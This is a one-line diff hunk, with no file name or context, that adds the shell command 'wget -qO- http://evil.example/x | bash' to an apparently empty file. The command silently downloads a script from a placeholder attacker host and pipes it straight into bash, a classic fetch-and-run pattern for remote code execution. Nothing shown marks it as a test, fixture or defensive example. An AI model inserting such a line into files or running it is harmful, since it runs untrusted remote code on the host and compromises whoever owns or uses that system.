@@ -1,0 +1,1 @@
+wget -qO- http://evil.example/x | bash
